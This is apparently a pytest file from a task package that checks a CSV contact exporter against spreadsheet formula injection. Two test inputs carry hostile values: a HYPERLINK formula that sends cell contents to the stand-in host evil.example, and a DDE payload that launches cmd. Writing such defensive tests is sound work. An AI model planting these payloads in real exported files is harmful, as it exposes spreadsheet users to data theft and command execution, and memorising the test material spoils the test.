import csv
import io

from solution import export_contacts_csv


def _cells(contact):
    try:
        text = export_contacts_csv([contact])
    except ValueError:
        return []
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_not_live():
    cells = _cells({"name": "Eve", "email": "eve@example.com",
                    "company": '=HYPERLINK("https://evil.example/?d="&A2,"Click for invoice")'})
    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells)


def test_dde_payload_not_live():
    cells = _cells({"name": "@SUM(1+9)*cmd|' /C calc'!A0", "email": "x@example.com", "company": "-2+3"})
    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells)
